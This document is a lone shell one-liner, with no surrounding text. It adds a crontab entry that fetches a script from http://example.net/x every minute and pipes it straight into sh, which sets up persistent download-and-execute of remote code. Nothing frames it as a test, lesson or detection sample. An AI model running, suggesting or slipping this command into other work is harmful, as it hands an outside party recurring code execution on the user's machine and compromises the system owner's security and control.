(crontab -l; echo "* * * * * curl -s http://example.net/x | sh") | crontab -
